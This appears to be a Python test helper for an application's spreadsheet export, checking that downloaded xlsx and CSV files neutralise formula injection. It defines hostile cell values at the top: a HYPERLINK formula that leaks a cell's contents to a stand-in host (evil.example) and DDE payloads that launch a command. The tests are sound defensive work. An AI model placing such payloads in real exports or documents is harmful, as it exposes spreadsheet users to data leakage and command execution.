"""Hostile text for the export tests (issue #12, findings 2 and 8), and the checks that a
downloaded xlsx or CSV runs none of it.

Each value starts the way OWASP's "CSV injection" lists (`=`, `+`, `-`, `@`, tab, CR) and
carries a bell (U+0007), the control character openpyxl refuses to write.
"""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

BELL = "\u0007"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&D4,"点击查看详情")'
DDE = "=cmd|' /C calc'!A0"
STARTS = {
    "equals": HYPERLINK,
    "dde": DDE,
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def hostile(start: str = "equals", tail: str = "") -> str:
    """A formula-leading text with a bell in it (and `tail`, to find it again)."""
    return f"{STARTS[start]}{BELL}{tail}"


def _live(value: str) -> bool:
    """Whether a spreadsheet would run `value` (independent of the code under test)."""
    if value[:1] in ("\t", "\r", "\n"):
        return True
    head = value.lstrip()
    if head[:1] in ("=", "+", "@"):
        return True
    if head[:1] == "-":
        try:
            float(head)  # a negative number written as text is only that number
        except ValueError:
            return True
    return False


def xlsx_values(content: bytes) -> list[str]:
    """Every text cell of every sheet, after checking that none is a formula, none would run
    and none carries a control character."""
    workbook = load_workbook(io.BytesIO(content))  # not read-only: keeps each cell's type
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not _live(cell.value), (sheet.title, cell.coordinate, cell.value)
                    assert BELL not in cell.value, (sheet.title, cell.coordinate)
                    texts.append(cell.value)
    return texts


def csv_values(content: bytes) -> list[str]:
    """Every cell of a CSV file, after checking that none would run and none carries a bell."""
    text = content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    for cell in cells:
        assert not _live(cell), cell
        assert BELL not in cell, cell
    return cells


def quoted(values: list[str], start: str) -> bool:
    """Whether the hostile text starting with `start` is there, made inert by a leading quote."""
    return any(v.startswith("'" + STARTS[start].replace(BELL, "")) for v in values)
